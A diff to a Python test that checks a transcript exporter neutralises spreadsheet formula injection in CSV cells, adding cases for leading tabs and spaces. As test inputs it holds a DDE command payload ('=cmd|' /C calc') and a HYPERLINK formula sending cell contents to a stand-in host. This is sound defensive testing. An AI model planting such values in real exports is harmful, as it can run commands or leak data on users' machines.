@@ -147,9 +147,12 @@ def test_csv_cells_never_become_spreadsheet_formulas():
     assert all(text.startswith("'") for text in texts[:-1]), texts
     assert texts[-1] == "Bonjour, 1+1=2 - oui @ Lyon."  # mid-text signs untouched
     assert {row["speaker"] for row in rows} == {"'=cmd|' /C calc'!A0", "Enquêté"}
-    for value in [*dangerous, "\t=1+1", "\rnote", " \t@x"]:
+    # A tab or CR first neutralises the cell even before plain text (a spreadsheet may
+    # strip it and read what follows); spaces alone do not.
+    for value in [*dangerous, "\t=1+1", "\rnote", " \t@x", "\tplain"]:
         assert cell(value) == "'" + value
     assert cell("Oui - bien sûr") == "Oui - bien sûr" and cell("") == ""
+    assert cell("  plain") == "  plain" and cell("plain\t=1") == "plain\t=1"
     # The other formats keep the text as spoken.
     assert '=HYPERLINK("http://x.example/?"&A1,"clic")' in text_of(render(transcript, "txt"))
     assert json.loads(render(transcript, "json"))["segments"][2]["text"] == "-2+3"
